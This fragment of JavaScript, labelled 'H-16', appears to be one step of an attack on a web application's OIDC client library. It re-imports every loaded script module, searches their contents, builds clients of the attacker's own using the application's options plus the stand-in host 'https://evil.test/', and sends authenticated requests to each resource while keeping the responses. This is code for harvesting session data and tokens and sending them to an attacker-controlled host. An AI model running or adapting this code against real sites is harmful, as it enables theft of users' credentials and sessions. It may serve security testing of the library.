// H-16: the library's modules once more, and a client of the attacker's own with the application's options.

const modules = performance.getEntriesByType("resource").map(({ name }) => name).filter((name) => /\.m?js(\?|$)/.test(name));
for (const url of new Set(modules)) {
  for (const address of [url, `${url}?x=1`]) {
    const module = await import(address).catch(() => undefined);
    walk(module, 20_000);
    for (const resources of [target.options?.resources, ["https://evil.test/"]]) {
      const client = await module?.createOidcClient?.({ ...target.options, resources });
      if (!client) continue;
      await client.ready();
      walk([client, client.session, await client.trace()], 20_000);
      for (const url of resources) await client.fetch(`${url}by-own-client`).then((response) => response.text()).then((text) => keep(text), () => {});
    }
  }
}
